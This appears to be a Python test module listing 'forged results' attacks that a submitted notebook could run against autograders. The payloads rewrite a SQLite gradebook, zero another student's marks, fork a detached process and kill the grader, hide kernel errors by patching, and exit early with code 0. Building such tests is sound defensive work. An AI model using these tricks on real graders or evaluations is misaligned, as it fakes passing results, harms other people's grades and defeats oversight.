"""Submissions that write marks that no test gave."""

from __future__ import annotations

import textwrap
from functools import partial

from tests.comparison.attack import Idea
from tests.comparison.ideas.common import KERNEL, nothing

KIND = "forged results"
forged = partial(nothing, KIND)

GRADES_OF = (
    "(select n.id from submitted_notebook n join submitted_assignment a on a.id = n.assignment_id"
    " where a.student_id = '@student@')"
)


def grades_of(student: str) -> str:
    """Return the part of an SQL statement that selects a student's notebooks."""
    return GRADES_OF.replace("@student@", student)


RESULTS = textwrap.dedent("""
    import json
    from pathlib import Path
    def results(points):
        names = ("gradients", "kernel", "relu", "squared")
        tests = [{"name": name, "score": points, "max_score": 1.0, "visibility": "hidden",
                  "output": f"{name} results: All test cases passed!"} for name in names]
        return json.dumps({"tests": tests}, indent=4)
    """)

WHEN_ALL_IS_DONE = textwrap.dedent("""
    import os, sys, time
    sys.stdout.flush()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3, 64):
                try:
                    os.close(number)
                except OSError:
                    pass
            end = time.monotonic() + 40
            while time.monotonic() < end:
                time.sleep(0.3)
                try:
                    if done():
                        break
                except Exception:
                    pass
        os._exit(0)
    """)

IN_THE_GRADEBOOK = textwrap.dedent("""
    import sqlite3
    from pathlib import Path
    def run(statement):
        if Path("@marks@").is_file():
            with sqlite3.connect("@marks@", timeout=5) as book:
                return book.execute(statement).rowcount
        return 0
    """)

IDEAS = (
    forged(
        "marks-by-hand",
        "The attacker's own marks are written into the tool's records as marks given by hand.",
        IN_THE_GRADEBOOK
        + f'''run("""update grade set manual_score = 1
            where notebook_id in {grades_of("mallory")}""")''',
        differs={
            "otter": {
                "start": RESULTS + 'Path("@marks@/mallory/results.json").write_text(results(1.0))\n'
            }
        },
    ),
    forged(
        "marks-of-another",
        "The earlier marks of another student are set to zero.",
        IN_THE_GRADEBOOK
        + f'''run("""update grade set auto_score = 0
            where notebook_id in {grades_of("ada")}""")''',
        differs={
            "otter": {
                "start": RESULTS + 'Path("@marks@/ada/results.json").write_text(results(0.0))\n'
            }
        },
    ),
    forged(
        "marks-afterwards",
        "A process in its own session waits until the marks are recorded, and changes these marks.",
        IN_THE_GRADEBOOK
        + textwrap.dedent(f'''
            def done():
                return run("""update grade set auto_score = 1 where auto_score is not null
                    and notebook_id in {grades_of("mallory")}""")
            ''')
        + WHEN_ALL_IS_DONE,
        differs={
            "otter": {
                "start": RESULTS
                + textwrap.dedent("""
                    def done():
                        path = Path("@marks@/mallory/results.json")
                        if path.exists():
                            time.sleep(0.5)
                            return path.write_text(results(1.0))
                    """)
                + WHEN_ALL_IS_DONE
            }
        },
    ),
    forged(
        "report-planted-and-grader-stopped",
        "Full marks are written into the records, and the process that would correct the marks "
        "is killed.",
        IN_THE_GRADEBOOK
        + textwrap.dedent(f'''
            import os, signal
            try:
                run("""insert into grade select lower(hex(randomblob(16))), n.id, g.id, 1, 1, 0, 0
                    from grade_cells g, submitted_notebook n
                    where n.id in {grades_of("mallory")}""")
            except sqlite3.Error:
                run("""update grade set manual_score = 1
                    where notebook_id in {grades_of("mallory")}""")
            os.kill(os.getppid(), signal.SIGKILL)
            '''),
        differs={
            "otter": {
                "start": RESULTS
                + textwrap.dedent("""
                    import os, signal
                    Path("@marks@/mallory/results.json").write_text(results(1.0))
                    os.kill(os.getppid(), signal.SIGKILL)
                    """)
            }
        },
    ),
    forged(
        "results-changed-on-their-way",
        "The messages from the notebook's process to the grader are changed as they are sent.",
        """
        session = get_ipython().kernel.session
        send = session.send
        def send_no_errors(stream, kind, content=None, *args, **kwargs):
            name = kind if isinstance(kind, str) else kind.get("header", {}).get("msg_type")
            if name == "error":
                return None
            if isinstance(content, dict) and content.get("status") == "error":
                content = {**content, "status": "ok", "user_expressions": {}, "payload": []}
            return send(stream, kind, content, *args, **kwargs)
        session.send = send_no_errors
        """,
        differs={
            "otter": {
                "start": """
                import pickle
                dump = pickle.dump
                def dump_points(value, *args, **kwargs):
                    for name in getattr(value, "results", {}):
                        value.update_score(name, 1.0)
                    return dump(value, *args, **kwargs)
                pickle.dump = dump_points
                """
            },
            "kit": {
                "start": """
                import sys
                for name, module in list(sys.modules.items()):
                    if name.split(".")[0] == "inside" and hasattr(module, "pack"):
                        pack = module.pack
                        def pack_success(message, *args, **kwargs):
                            if isinstance(message, dict) and "error" in message:
                                message = {**message, "error": None}
                            return pack(message, *args, **kwargs)
                        module.pack = pack_success
                """
            },
        },
    ),
    forged(
        "frames-into-every-descriptor",
        "Messages with full marks are written into every open file descriptor of the process.",
        """
        import json, os, struct
        text = json.dumps({"id": 1, "status": "ok", "score": 1.0, "points": 1.0, "passed": True})
        for number in range(3, 64):
            try:
                os.set_blocking(number, False)
                os.write(number, struct.pack(">I", len(text)) + text.encode())
            except OSError:
                pass
        """,
    ),
    Idea(
        "ends-before-the-verdict",
        KIND,
        "The process ends with exit code 0 during the test, as if the test had finished.",
        {
            "kernel": """
            import os

            def empirical_ntk(v, W, X, n):
                if len(X) > 2:
                    os._exit(0)
                return np.zeros((len(X), len(X)))
            """
        },
        KERNEL,
    ),
)
